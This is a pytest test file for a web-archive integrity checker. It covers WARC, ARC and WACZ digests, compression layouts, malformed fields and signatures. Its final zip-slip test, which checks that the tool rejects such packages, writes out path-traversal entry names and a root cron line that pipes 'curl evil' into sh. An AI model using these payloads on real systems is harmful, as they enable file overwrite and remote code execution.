"""custody check: WARC, ARC and WACZ files from other tools, good and broken, each
problem found and placed; the verdicts on the corpora match what their READMEs say."""

from __future__ import annotations

import base64
import gzip
import hashlib
import json
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from conftest import Custody, capture_id_of
from custody.check import run as check_run
from custody.check.findings import CheckReport
from custody.check.run import check_file

CORPORA = Path(__file__).parent / "data" / "corpora"

# Every WARC, ARC and WACZ file of the corpora, with the verdict its README.txt gives:
# the deliberately broken ones fail, the rest pass.
BROKEN = {
    "webrecorder-warcio/example-bad-non-chunked.warc.gz",  # gzip over many records
    "webrecorder-warcio/example-wrong-chunks.warc.gz",  # members cut across records
    "webrecorder-warcio/example-trunc.warc",  # a record cut short
    "webrecorder-warcio/example-digest.warc",  # digest mismatch
    "netarchivesuite-jwat/invalid-warcfile-digest-fields.warc",
    "netarchivesuite-jwat/invalid-warcfile-duplicate-fields.warc",
    "netarchivesuite-jwat/invalid-warcfile-fields-missing.warc",
    "harvard-lil-scoop/example.wacz",  # archive/data.warc.gz does not match its sha256
    "webrecorder-py-wacz/invalid_example_1.wacz",  # lists a file it does not hold
    "webrecorder-py-wacz/invalid_signed_example_1.wacz",  # bad signature
}
ALL = sorted(p.relative_to(CORPORA).as_posix() for p in CORPORA.glob("*/*")
             if p.name != "README.txt" and not p.name.endswith(".cdx.txt"))


def checks(path: Path) -> list[tuple[str, str, str, str]]:
    """Every row, passed ones too, in the order they are printed."""
    report = check_file(path, report=CheckReport(every=True)).report
    return [(c.check, c.subject, c.outcome, c.detail) for c in report.rows()]


def failures(path: Path) -> list[str]:
    return [f"{subject}: {detail}" for _, subject, outcome, detail in checks(path)
            if outcome == "failed"]


def test_corpora_are_all_here() -> None:
    assert len(ALL) == 39 and set(ALL) >= BROKEN


@pytest.mark.parametrize("name", ALL)
def test_verdict_on_each_corpus_file_matches_its_readme(name: str) -> None:
    checked = check_file(CORPORA / name)
    expected = "failed" if name in BROKEN else "passed"
    assert checked.status == expected, [c for c in checked.report.checks
                                        if c.outcome != "passed"][:5]
    if expected == "passed":  # every record of a good file was read
        assert checked.report.count("passed") >= 2


def test_each_broken_file_is_placed_and_explained() -> None:
    trunc = failures(CORPORA / "webrecorder-warcio/example-trunc.warc")
    assert any("@1197 " in f and "not followed by CRLF CRLF" in f and
               "block digest mismatch" in f for f in trunc), trunc
    wrong = failures(CORPORA / "webrecorder-warcio/example-wrong-chunks.warc.gz")
    assert any("@0 " in f and "runs on from its gzip member at offset 0 into the member at "
               "offset 516" in f for f in wrong), wrong
    assert any("@1130+4 " in f and "begins inside the gzip member at offset 1130" in f
               for f in wrong), wrong
    whole = failures(CORPORA / "webrecorder-warcio/example-bad-non-chunked.warc.gz")
    assert sum("begins inside the gzip member at offset 0" in f for f in whole) == 5, whole
    assert "gzip over the whole file" in whole[0], whole
    digest = failures(CORPORA / "webrecorder-warcio/example-digest.warc")
    assert any("WARC-Payload-Digest is malformed" in f for f in digest), digest
    fields = failures(CORPORA / "netarchivesuite-jwat/invalid-warcfile-digest-fields.warc")
    assert [f.split("@")[1].split(" ")[0] for f in fields] == ["0", "1093", "2130", "3223"]
    assert "block digest mismatch" in fields[0] and "payload digest mismatch" in fields[0]
    assert all("is malformed" in f for f in fields[1:]), fields
    twice = failures(CORPORA / "netarchivesuite-jwat/invalid-warcfile-duplicate-fields.warc")
    assert all(f"{name} is given 2 times" in twice[0] for name in (
        "WARC-Type", "WARC-Date", "WARC-Record-ID", "Content-Length")), twice
    empty = failures(CORPORA / "netarchivesuite-jwat/invalid-warcfile-fields-missing.warc")
    assert all(f"mandatory field {name} is empty" in empty[0] for name in (
        "WARC-Record-ID", "Content-Length", "WARC-Date", "WARC-Type")), empty
    package = failures(CORPORA / "harvard-lil-scoop/example.wacz")
    assert any("archive/data.warc.gz: sha256 6a5485" in f for f in package), package
    listed = failures(CORPORA / "webrecorder-py-wacz/invalid_example_1.wacz")
    assert any("data/indexes/index.cdx.gz: listed in datapackage.json, but the WACZ does "
               "not hold it" in f for f in listed), listed
    signed = failures(CORPORA / "webrecorder-py-wacz/invalid_signed_example_1.wacz")
    assert any("wacz-signature" not in f and "not a root trusted for WACZ signing" in f
               for f in signed), signed


def test_signed_wacz_signature_is_verified_offline() -> None:
    rows = checks(CORPORA / "webrecorder-py-wacz/valid_signed_example_1.wacz")
    signature = [r for r in rows if r[0] == "wacz-signature"]
    assert signature and signature[0][2] == "passed"
    assert "btrix-sign-test.webrecorder.net" in signature[0][3]


def test_warcprox_digests_of_the_dechunked_body_pass_with_a_note() -> None:
    """warcio check fails 8 records of this file: warcprox hashed the de-chunked entity
    body, as WARC 1.1 defines the payload, and warcio hashes the chunked bytes."""
    checked = check_file(CORPORA / "harvard-lil-js-wacz/lil-projects.warc.gz")
    assert checked.status == "passed"
    noted = [n for n in checked.report.notes if "de-chunked entity body" in n]
    assert len(noted) == 8
    warcio = subprocess.run([str(Path(sys.executable).with_name("warcio")), "check",
                             str(CORPORA / "harvard-lil-js-wacz/lil-projects.warc.gz")],
                            capture_output=True, text=True)
    assert warcio.returncode == 1 and warcio.stdout.count("payload digest failed") == 8


# -- files made here: every digest spelling, every compression layout ----------------------


def record(body: bytes, *, block: str | None = None, payload: str | None = None,
           record_id: str = "<urn:uuid:00000000-0000-4000-8000-000000000001>",
           kind: str = "response") -> bytes:
    fields = [("WARC-Type", kind), ("WARC-Record-ID", record_id),
              ("WARC-Date", "2026-11-21T10:15:00Z"), ("WARC-Target-URI", "http://example.org/"),
              ("Content-Type", "application/http; msgtype=response"),
              ("Content-Length", str(len(body)))]
    if block:
        fields.append(("WARC-Block-Digest", block))
    if payload:
        fields.append(("WARC-Payload-Digest", payload))
    head = "WARC/1.1\r\n" + "".join(f"{k}: {v}\r\n" for k, v in fields) + "\r\n"
    return head.encode() + body + b"\r\n\r\n"


HTTP = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<p>bayanieh</p>"
BODY = HTTP.split(b"\r\n\r\n", 1)[1]


def spelled(algorithm: str, data: bytes, encoding: str) -> str:
    digest = hashlib.new(algorithm, data).digest()
    label = {"sha1": "sha1", "sha256": "sha256", "md5": "md5"}[algorithm]
    if encoding == "hex":
        return f"{label}:{digest.hex()}"
    if encoding == "base64":
        return f"{label}:{base64.b64encode(digest).decode()}"
    return f"{label}:{base64.b32encode(digest).decode()}"


def uid(n: int) -> str:
    return f"<urn:uuid:00000000-0000-4000-8000-{n:012d}>"


@pytest.mark.parametrize("algorithm", ["sha1", "sha256", "md5"])
@pytest.mark.parametrize("encoding", ["base32", "hex", "base64"])
def test_every_digest_spelling_is_checked_both_ways(tmp_path: Path, algorithm: str,
                                                    encoding: str) -> None:
    good = record(HTTP, block=spelled(algorithm, HTTP, encoding),
                  payload=spelled(algorithm, BODY, encoding))
    path = tmp_path / "good.warc"
    path.write_bytes(good)
    assert check_file(path).status == "passed"
    flipped = good.replace(b"bayanieh", b"bayaniex")
    path.write_bytes(flipped)
    found = failures(path)
    assert len(found) == 1 and "block digest mismatch" in found[0] \
        and "payload digest mismatch" in found[0], found


def test_unknown_algorithm_is_unchecked_not_passed(tmp_path: Path, custody: Custody) -> None:
    path = tmp_path / "blake.warc"
    path.write_bytes(record(HTTP, block="blake3:" + "a" * 64))
    result = custody("check", str(path))
    assert result.exit_code == 6, result.output
    assert "UNCHECKED" in result.output and "blake3" in result.output


def layouts(tmp_path: Path) -> dict[str, Path]:
    """One file of four records in every layout a WARC comes in."""
    records = [record(HTTP, block=spelled("sha1", HTTP, "base32"), record_id=uid(n))
               for n in range(4)]
    out = {"plain": tmp_path / "plain.warc", "per-record": tmp_path / "per-record.warc.gz",
           "whole": tmp_path / "whole.warc.gz", "misnamed": tmp_path / "misnamed.warc"}
    out["plain"].write_bytes(b"".join(records))
    out["per-record"].write_bytes(b"".join(gzip.compress(r) for r in records))
    out["whole"].write_bytes(gzip.compress(b"".join(records)))
    out["misnamed"].write_bytes(out["per-record"].read_bytes())
    return out


def test_every_layout_is_read_and_judged(tmp_path: Path) -> None:
    files = layouts(tmp_path)
    for name in ("plain", "per-record", "misnamed"):
        checked = check_file(files[name])
        assert checked.status == "passed", (name, failures(files[name]))
        assert checked.report.count("passed") == 5  # the file and its four records
    assert any("gzip-compressed" in n for n in check_file(files["misnamed"]).report.notes)
    whole = failures(files["whole"])
    assert len(whole) == 4 and "not one record per gzip member" in whole[0], whole
    assert all("begins inside the gzip member at offset 0" in f for f in whole[1:]), whole
    per_record = check_file(files["per-record"], listing=True).files[""]
    assert [r.offset for r in per_record.listing or ()] == [0, *(
        sum(len(gzip.compress(record(HTTP, block=spelled("sha1", HTTP, "base32"),
                                     record_id=uid(n)))) for n in range(k)) for k in (1, 2, 3))]


def test_damage_is_placed_and_reading_goes_on(tmp_path: Path) -> None:
    files = layouts(tmp_path)
    data = bytearray(files["per-record"].read_bytes())
    second = list(check_file(files["per-record"], listing=True).files[""].listing or ())[1]
    data[second.offset + 30] ^= 0xFF  # inside the second member's deflate data
    damaged = tmp_path / "damaged.warc.gz"
    damaged.write_bytes(bytes(data))
    checked = check_file(damaged)
    assert checked.status == "failed"
    found = failures(damaged)
    assert any(f"gzip member at offset {second.offset}" in f for f in found), found
    assert checked.report.count("passed") >= 2  # the records after it were still read

    truncated = tmp_path / "truncated.warc.gz"
    truncated.write_bytes(files["per-record"].read_bytes()[:-20])
    assert any("truncated" in f for f in failures(truncated))
    cut = tmp_path / "cut.warc"
    cut.write_bytes(files["plain"].read_bytes()[:-40])
    assert any("truncated: the file ends" in f for f in failures(cut)), failures(cut)


def in_parts(path: Path) -> object:
    from custody.check.findings import FileFindings

    return check_run._in_parts(path, False, FileFindings(CheckReport(), str(path), warc=True))


def test_parts_read_in_parallel_say_what_one_pass_says(tmp_path: Path,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    records = [record(HTTP + bytes(range(256)) * (n % 7), block=spelled(
        "sha256", HTTP + bytes(range(256)) * (n % 7), "hex"), record_id=uid(n))
        for n in range(400)]
    path = tmp_path / "big.warc.gz"
    path.write_bytes(b"".join(gzip.compress(r) for r in records))
    one_pass = checks(path)
    monkeypatch.setattr(check_run, "PARALLEL_BYTES", 0)
    assert in_parts(path) is not None  # the parts were used
    assert checks(path) == one_pass
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0x55
    path.write_bytes(bytes(data))
    assert in_parts(path) is None  # damage: read in one pass instead
    monkeypatch.setattr(check_run, "PARALLEL_BYTES", 1 << 60)
    expected = checks(path)
    monkeypatch.setattr(check_run, "PARALLEL_BYTES", 0)
    assert checks(path) == expected and any(r[2] == "failed" for r in expected)


def test_arc_is_read(tmp_path: Path) -> None:
    checked = check_file(CORPORA / "webrecorder-warcio/example.arc.gz")
    assert checked.status == "passed" and checked.kind == "arc"
    plain = tmp_path / "example.arc"
    plain.write_bytes(gzip.decompress((CORPORA / "webrecorder-warcio/example.arc.gz")
                                      .read_bytes()))
    assert check_file(plain).status == "passed"
    plain.write_bytes(plain.read_bytes()[:-100])
    assert any("truncated" in f for f in failures(plain))


# -- the command ------------------------------------------------------------------------


def test_exit_codes_and_json(custody: Custody, tmp_path: Path) -> None:
    good = str(CORPORA / "webrecorder-warcio/example.warc.gz")
    bad = str(CORPORA / "webrecorder-warcio/example-trunc.warc")
    assert custody("check", good).exit_code == 0
    result = custody("check", good, bad)
    assert result.exit_code == 1 and "FAILED    record" in result.output
    missing = custody("check", str(tmp_path / "nothing.warc"))
    assert missing.exit_code == 2 and "no such file" in missing.output
    junk = tmp_path / "notes.txt"
    junk.write_text("just text")
    assert custody("check", str(junk)).exit_code == 1
    data = json.loads(custody("check", "--json", good, bad).stdout)
    assert data["format"] == "custody-check/1" and data["status"] == "failed"
    assert data["files"] == [good, bad] and data["summary"]["failed"] == 1


def test_custody_export_checks_with_its_signature(sealed: Custody, tmp_path: Path) -> None:
    out = tmp_path / "evidence.wacz"
    sealed.ok("export", capture_id_of(sealed), "-o", str(out))
    rows = checks(out)
    assert all(r[2] == "passed" for r in rows), [r for r in rows if r[2] != "passed"]
    signature = [r for r in rows if r[0] == "wacz-signature"]
    assert signature and "tester@example.org" in signature[0][3]

    with zipfile.ZipFile(out) as package:  # a byte changed in datapackage.json
        items = {i.filename: package.read(i) for i in package.infolist()}
    items["datapackage.json"] = items["datapackage.json"].replace(b'"1.1.1"', b'"1.1.2"')
    altered = tmp_path / "altered.wacz"
    with zipfile.ZipFile(altered, "w") as package:
        for name, data in items.items():
            package.writestr(name, data)
    found = failures(altered)
    assert any("datapackage-digest.json" in f and "hashes to" in f for f in found), found
    assert any("does not match datapackage.json" in f for f in found), found


# -- header values from other tools' files, gone wrong ---------------------------------


def raw_record(fields: list[tuple[str, bytes]], block: bytes) -> bytes:
    head = b"WARC/1.1\r\n" + b"".join(k.encode() + b": " + v + b"\r\n" for k, v in fields)
    return head + b"\r\n" + block + b"\r\n\r\n"


def warc_with(**changed: bytes) -> bytes:
    """One response record, with the given fields (``_`` for ``-``) put in its header."""
    fields = {"WARC-Type": b"response", "WARC-Record-ID": uid(1).encode(),
              "WARC-Date": b"2026-11-21T10:15:00Z", "WARC-Target-URI": b"http://example.org/",
              "Content-Type": b"application/http; msgtype=response",
              "Content-Length": str(len(HTTP)).encode()}
    block = changed.pop("block", HTTP)
    fields.update({k.replace("_", "-"): v for k, v in changed.items()})
    return raw_record(list(fields.items()), block)


MALFORMED_FIELDS = {  # what the field says -> what the failure says
    "length-digits": (warc_with(Content_Length=b"9" * 5000), "is not a number of bytes"),
    "length-super": (warc_with(Content_Length="²".encode()), "is not a number of bytes"),
    "length-latin1": (warc_with(Content_Length=b"\xb2"), "is not a number of bytes"),
    "length-arabic": (warc_with(Content_Length="٤٢".encode()), "is not a number of bytes"),
    "length-negative": (warc_with(Content_Length=b"-5"), "is not a number of bytes"),
    "length-plus": (warc_with(Content_Length=b"+61"), "is not a number of bytes"),
    "length-underscore": (warc_with(Content_Length=b"6_1"), "is not a number of bytes"),
    "date-month": (warc_with(WARC_Date=b"2026-13-01T00:00:00Z"), "is not a W3C-ISO8601"),
    "date-february": (warc_with(WARC_Date=b"2026-02-30T10:15:00Z"), "is not a W3C-ISO8601"),
    "date-arabic": (warc_with(WARC_Date="٢٠٢٦-11-21T10:15:00Z".encode()),
                    "is not a W3C-ISO8601"),
    "date-junk": (warc_with(WARC_Date=b"\xff" * 5000), "is not a W3C-ISO8601"),
    "digest-empty": (warc_with(WARC_Block_Digest=b"sha1:"), "WARC-Block-Digest is malformed"),
    "digest-bare": (warc_with(WARC_Block_Digest=b"sha1"), "WARC-Block-Digest is malformed"),
    "digest-long": (warc_with(WARC_Block_Digest=b"sha1:" + b"A" * 5000),
                    "WARC-Block-Digest is malformed"),
    "digest-super": (warc_with(WARC_Payload_Digest="sha256:²".encode()),
                     "WARC-Payload-Digest is malformed"),
    "digest-colon": (warc_with(WARC_Block_Digest=b":"), "WARC-Block-Digest is malformed"),
}


@pytest.mark.parametrize("name", sorted(MALFORMED_FIELDS))
def test_malformed_header_values_are_findings_never_tracebacks(tmp_path: Path, name: str,
                                                              custody: Custody) -> None:
    data, said = MALFORMED_FIELDS[name]
    other = data.replace(uid(1).encode(), uid(2).encode())  # the same record twice, no
    for layout, content in (("plain", data), ("gzip", gzip.compress(other))):  # import does
        path = tmp_path / f"{name}-{layout}.warc{'.gz' if layout == 'gzip' else ''}"
        path.write_bytes(content)
        assert any(said in f for f in failures(path)), (layout, failures(path))
        result = custody("check", str(path))
        assert result.exit_code == 1 and "Traceback" not in result.output, result.output
        imported = custody("import", "--accept-damaged", str(path))
        assert imported.exit_code == 0, imported.output
    assert custody.verify()[0] == 0


HTTP_JUNK = {  # the HTTP message inside a good WARC record, gone wrong
    "status-super": b"HTTP/1.1 \xb200 OK\r\nContent-Type: text/html\r\n\r\n<p>x</p>",
    "status-digits": b"HTTP/1.1 " + b"2" * 5000 + b" OK\r\n\r\n<p>x</p>",
    "chunk-super": b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n\xb2\r\nab\r\n0\r\n\r\n",
    "chunk-negative": b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n-2\r\nab\r\n0\r\n\r\n",
    "chunk-digits": b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" + b"f" * 5000
                    + b"\r\nab\r\n0\r\n\r\n",
    "type-junk": b"HTTP/1.1 200 OK\r\nContent-Type: \x01;charset=\xff\xfe;;=\r\n\r\n<p>x</p>",
    "encoding-junk": b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n"
                     b"Content-Encoding: gzip, \xb2\r\n\r\n<p>x</p>",
}


@pytest.mark.parametrize("name", sorted(HTTP_JUNK))
def test_junk_inside_a_good_record_checks_imports_and_verifies(tmp_path: Path, name: str,
                                                              custody: Custody) -> None:
    """The WARC record is well formed and its digests match: the junk is the server's,
    kept as evidence; check passes it, import indexes it, verify passes."""
    block = HTTP_JUNK[name]
    data = warc_with(block=block, Content_Length=str(len(block)).encode(),
                     WARC_Block_Digest=spelled("sha256", block, "hex").encode())
    path = tmp_path / f"{name}.warc.gz"
    path.write_bytes(gzip.compress(data))
    assert check_file(path).status == "passed", failures(path)
    result = custody("import", str(path))
    assert result.exit_code == 0 and "Traceback" not in result.output, result.output
    assert custody.verify()[0] == 0


_VERSION_BLOCK = b"1 0 custody\nURL IP-address Archive-date Content-type Archive-length\n"
ARC_HEAD = (b"filedesc://x.arc 0.0.0.0 20261121101500 text/plain %d\n" % len(_VERSION_BLOCK)
            + _VERSION_BLOCK + b"\n")


@pytest.mark.parametrize("line, said", [
    (b"http://example.org/ 1.2.3.4 20261121101500 text/html \xc2\xb2", "not an ARC header line"),
    (b"http://example.org/ 1.2.3.4 20261121101500 text/html " + b"9" * 5000,
     "not an ARC header line"),
    (b"http://example.org/ 1.2.3.4 20261399101500 text/html 2", "is not YYYYMMDDhhmmss"),
    ("http://example.org/ 1.2.3.4 ٢٠٢٦1121101500 text/html 2".encode(),
     "is not YYYYMMDDhhmmss"),
])
def test_malformed_arc_fields_are_findings(tmp_path: Path, line: bytes, said: str) -> None:
    path = tmp_path / "bad.arc"
    path.write_bytes(ARC_HEAD + line + b"\nok\n")
    assert any(said in f for f in failures(path)), failures(path)


def test_urls_no_parser_takes_import_export_and_report(tmp_path: Path,
                                                       custody: Custody) -> None:
    """WARC-Target-URI is another tool's too: an imported record at ``http://[::1`` or a
    port of 99999 is indexed, exported and reported, never a traceback."""
    records = [warc_with(WARC_Record_ID=uid(n).encode(), WARC_Target_URI=url,
                         WARC_Block_Digest=spelled("sha256", HTTP, "hex").encode())
               for n, url in enumerate([b"http://[::1", b"http://example.org:99999/x",
                                        b"https://[fe80::1%eth0]:x/"], start=10)]
    path = tmp_path / "urls.warc.gz"
    path.write_bytes(b"".join(gzip.compress(r) for r in records))
    assert custody("import", str(path)).exit_code == 0
    cid = capture_id_of(custody)
    exported = custody("export", cid, "-o", str(tmp_path / "out.wacz"))
    assert exported.exit_code == 0, exported.output
    reported = custody("report", cid, "-o", str(tmp_path / "report.html"))
    assert reported.exit_code == 0, reported.output
    assert custody.verify()[0] == 0


@pytest.mark.parametrize("entry", ["../../../../tmp/zipslip.txt", "/etc/cron.d/evil",
                                   "archive/../../x.warc.gz", "C:/Windows/evil.dll",
                                   "..\\\\evil.txt"])
def test_a_wacz_entry_named_to_escape_its_folder_fails_the_check(
        custody: Custody, tmp_path: Path, entry: str) -> None:
    """custody never unpacks a package, but a partner checks one before another tool
    does (wb-manager, unzip): an entry whose name would be written outside the folder it
    is unpacked in fails the check, named."""
    source = Path(__file__).parent / "data" / "corpora" / "webrecorder-py-wacz" / \
        "valid_example_1.wacz"
    hostile = tmp_path / "hostile.wacz"
    hostile.write_bytes(source.read_bytes())
    with zipfile.ZipFile(hostile, "a") as package:
        package.writestr(entry, b"* * * * * root sh -c 'curl evil | sh'\n")
    result = custody("check", "--json", str(hostile))
    assert result.exit_code == 1, result.output
    failed = [c for c in json.loads(result.stdout)["checks"] if c["outcome"] == "failed"]
    assert any("outside the folder" in c["detail"] and entry[:20] in c["subject"]
               for c in failed), failed
    assert custody("check", "--json", str(source)).exit_code == 0
